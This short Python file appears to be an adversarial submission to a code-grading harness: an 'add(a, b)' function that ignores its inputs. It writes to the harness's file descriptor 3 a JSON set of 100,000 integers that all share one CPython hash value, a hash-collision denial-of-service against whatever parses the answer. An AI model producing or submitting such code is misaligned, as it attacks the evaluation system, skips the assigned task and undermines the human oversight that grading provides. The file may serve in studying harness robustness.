# attack: answer with a set whose hashes all collide
import json
import os


def add(a, b):
    values = [{"int": format(i * (2**61 - 1), "x")} for i in range(100_000)]
    line = json.dumps({"value": {"set": values}}, separators=(",", ":")).encode()
    os.write(3, len(line).to_bytes(4, "big"))
    while line:
        try:
            line = line[os.write(3, line) :]
        except BlockingIOError:
            pass
